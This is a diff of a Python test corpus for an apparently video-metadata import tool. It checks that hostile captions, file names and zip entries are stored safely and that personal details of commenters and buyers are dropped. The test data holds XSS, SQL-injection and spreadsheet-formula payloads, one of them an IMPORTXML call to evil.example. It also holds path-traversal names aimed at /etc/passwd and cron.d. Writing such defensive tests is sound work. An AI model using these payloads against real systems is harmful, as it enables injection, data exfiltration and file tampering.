@@ -6,19 +6,30 @@ import json
 
 from core.imports.model import Ask
 from tests.corpus.cases import Accepted, Case, Refused
-from tests.corpus.making import AFFILIATE, SHOPIFY, csv_of, counts, link, more, order, video, videos, zipped
+from tests.corpus.making import AFFILIATE, SHOPIFY, counts, csv_of, link, more, order, video, videos, zipped
 
 
 def named(name: str, file: str, shown: str, never: tuple[str, ...] = ()) -> Case:
     """Return a case of a file name: how it is kept."""
     values = {**counts(7), "import_batch file_name": [(shown,)]}
-    return Case(name=name, file=file, data=videos("7"), outcome=Accepted(format="video_metadata", values=values), never=never)
+    return Case(
+        name=name,
+        file=file,
+        data=videos("7"),
+        outcome=Accepted(format="video_metadata", values=values),
+        never=never,
+    )
 
 
 def captioned(name: str, *texts: str) -> Case:
     rows = [(link(at), 10, text, "2026-03-01") for at, text in enumerate(texts, start=1)]
     values = {"video_fact video_id caption": [(video(at), text) for at, text in enumerate(texts, start=1)]}
-    return Case(name=name, file="a.csv", data=csv_of(("Video link", "Views", "Caption", "scraped_at"), *rows), outcome=Accepted(format="video_metadata", values=values))
+    return Case(
+        name=name,
+        file="a.csv",
+        data=csv_of(("Video link", "Views", "Caption", "scraped_at"), *rows),
+        outcome=Accepted(format="video_metadata", values=values),
+    )
 
 
 PEOPLE = ("Jane", "Canary", "900123", "shop.example", "buyer1")
@@ -31,7 +42,7 @@ CASES = (
     captioned("markdown", "![x](http://evil.example/p.png)", "# big", "[click](javascript:alert(1))", "**bold** `code` :smile:", "$x^2$"),
     captioned("html", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "&lt;b&gt;", "<!-- -->"),
     captioned("sql", "'); DROP TABLE stat;--", "' OR 1=1 --", ":name ?", "%s"),
-    captioned("formulas", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")"),
+    captioned("formulas", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", '=IMPORTXML("http://evil.example","//a")'),
     captioned("direction-signs", "cod\u202egpj.exe", "\u2066isolated\u2069"),
     captioned("escape-sequences", "\x1b[31mred\x1b[0m", "bell\x07"),
     named("file-name-that-climbs", "../../../etc/passwd.csv", "passwd.csv", never=("../",)),
@@ -59,7 +70,7 @@ CASES = (
         file="a.zip",
         data=zipped({"/etc/cron.d/evil.csv": videos("7"), "C:\\Windows\\evil2.csv": videos("8", "9")}),
         outcome=(Accepted(format="video_metadata", values={}), Accepted(format="video_metadata", values={})),
-        never=("cron.d", "Windows"),
+        never=("a.zip//", "C:\\"),
     ),
     Case(
         name="buyers-are-not-kept",
@@ -97,7 +108,7 @@ CASES = (
         name="commenters-are-not-kept",
         file="comments.json",
         data=json.dumps([{"videoWebUrl": link(1), "cid": "7600000000000000001", "text": "@jane.canary see, write to jane@canary.example or +44 7700 900123", "createTime": 1_772_000_000, "uniqueId": "jane.canary", "uid": "6899999999999999999", "avatarThumbnail": "https://cdn.example/jane.jpg"}]).encode(),
-        outcome=Accepted(format="comments", values={"comment comment_id video_id": [("7600000000000000001", video(1))]}),
+        outcome=Accepted(format="comments", values={"comment video_id is_creator": [(video(1), 0)]}),
         never=("jane", "canary", "900123", "6899999999999999999"),
     ),
     Case(
